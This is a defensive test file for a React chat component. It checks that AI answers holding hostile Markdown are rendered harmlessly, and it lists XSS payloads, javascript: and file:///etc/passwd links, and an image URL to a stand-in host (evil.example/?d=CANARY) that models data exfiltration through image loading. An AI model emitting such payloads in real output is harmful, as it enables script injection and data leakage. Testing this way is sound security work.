import { cleanup, fireEvent, render, screen } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { Chat } from '../Chat.js';
import { makeMessage, scriptTransport } from '../testing/ScriptedTransport.js';

afterEach(cleanup);

/** Draws an answer, also while it streams in pieces of `size` characters. */
async function draw(content: string, size = content.length, more = {}) {
  const { transport } = scriptTransport({
    async *send() {
      for (let start = 0; start < content.length; start += size)
        yield {
          type: 'message.delta' as const,
          message: makeMessage({ content: content.slice(start, start + size), ...more }),
        };
      yield { type: 'message.completed' as const, message: makeMessage({ content, ...more }) };
      yield { type: 'done' as const };
    },
  });
  const { container } = render(<Chat transport={transport} language="en" suggestedQuestions={['Go']} />);
  fireEvent.click(await screen.findByRole('button', { name: 'Go' }));
  await screen.findByRole('toolbar', { name: 'Actions for this answer' });
  return container.querySelector<HTMLElement>('.heddle-chat-reply')!;
}

const canary = 'https://evil.example/?d=CANARY';

describe('an answer with hostile Markdown', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg><use href="https://evil.example/a.svg#x"/></svg>',
    '<style>@import "https://evil.example/a.css"</style>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<link rel=preload href="https://evil.example">',
    '<video poster="https://evil.example/p.png"></video>',
    '```html\n</code></pre><script>alert(1)</script>\n```',
    '<h1 id="location" name="cookie">x</h1>',
    '$\\href{javascript:alert(1)}{x}$',
    '```mermaid\ngraph TD; click A "javascript:alert(1)"\n```',
  ])('shows %s as text', async (text) => {
    const reply = await draw(text);
    expect(reply.querySelector('script, style, iframe, link, video, use, [id=location], [name]')).toBeNull();
    expect(reply.querySelector('.heddle-chat-bubble img')).toBeNull();
    expect(reply.textContent).toMatch(/alert|evil|location/);
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#x73;cript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](java\\\nscript:alert(1))',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](file:///etc/passwd)',
    '[x](blob:null/1)',
    '<javascript:alert(1)>',
    '[x][y]\n\n[y]: javascript:alert(1)',
    '[x](/api/passport/web/logout)',
    '[x](//evil.example)',
  ])('makes no link of %s', async (text) => {
    const reply = await draw(text);
    expect(reply.querySelector('a')).toBeNull();
  });

  it('opens links in another page, without access to this one, and shows their host', async () => {
    const reply = await draw(
      '[your bank](https://evil.example/login) and https://a.example/b and <m@a.example>',
    );
    const [named, address, mail] = reply.querySelectorAll('a');
    for (const link of [named!, address!, mail!]) {
      expect(link.rel.split(' ').sort()).toEqual(['nofollow', 'noopener', 'noreferrer']);
      expect(link.target).toBe('_blank');
    }
    expect(named!.textContent).toBe('your bank (evil.example)');
    expect(named!.title).toContain('evil.example');
    expect(address!.textContent).toBe('https://a.example/b');
    expect(mail!.href).toBe('mailto:m@a.example');
  });

  it.each([
    ['inline', `![x](${canary})`],
    ['by reference', `![x][r]\n\n[r]: ${canary}`],
    ['in a link', `[![x](${canary})](https://a.example)`],
    ['in a table', `| a |\n|---|\n| ![x](${canary}) |`],
    ['with encoded letters', '![x](https://evil.example/&#63;d=CANARY)'],
  ])('loads no image %s before the reader asks for it, also while it streams', async (_name, text) => {
    for (const size of [text.length, 2]) {
      const reply = await draw(text, size);
      expect(reply.querySelector('img')).toBeNull();
      expect(reply.innerHTML.replaceAll('&amp;', '&')).not.toMatch(/(?:src|srcset|poster)="[^"]*CANARY/);
      expect(reply.querySelector('[style*="url"]')).toBeNull();
      cleanup();
    }
  });

  it('loads an image when the reader asks for it, without a referrer', async () => {
    const reply = await draw(`![x](${canary})`);
    fireEvent.click(screen.getByRole('button', { name: 'Load image from evil.example' }));
    const image = reply.querySelector('img')!;
    expect(image.src).toBe(canary);
    expect(image.referrerPolicy).toBe('no-referrer');
  });

  it('asks before it loads an image that is a part of the message', async () => {
    const content = JSON.stringify([{ type: 'image', url: canary }]);
    const reply = await draw(content, content.length, { contentType: 'object_string' });
    expect(reply.querySelector('img')).toBeNull();
    expect(screen.getByRole('button', { name: /Load image/ })).toBeDefined();
  });

  it('shows suggestions, card texts and tool results as text', async () => {
    const text = `<img src="${canary}">![x](${canary})`;
    const { transport } = scriptTransport({
      history: async () => ({
        messages: [
          makeMessage({ id: '1', kind: 'question', role: 'user', content: text }),
          makeMessage({ id: '2', content: text, contentType: 'card' }),
          makeMessage({ id: '3', kind: 'function_call', content: text, details: { toolName: text } }),
          makeMessage({ id: '4', kind: 'tool_response', content: text }),
          makeMessage({ id: '5', kind: 'follow_up', content: text }),
          makeMessage({
            id: '6',
            kind: 'interrupt',
            interrupt: { type: 'options', question: text, options: [text] },
          }),
        ],
      }),
    });
    const { container } = render(<Chat transport={transport} language="en" />);
    fireEvent.click(await screen.findByRole('button', { name: /Show steps/ }));
    for (const step of screen.getAllByRole('button', { expanded: false })) fireEvent.click(step);
    expect(container.querySelector('img')).toBeNull();
    expect(container.textContent?.split('<img').length).toBeGreaterThan(5);
  });
});
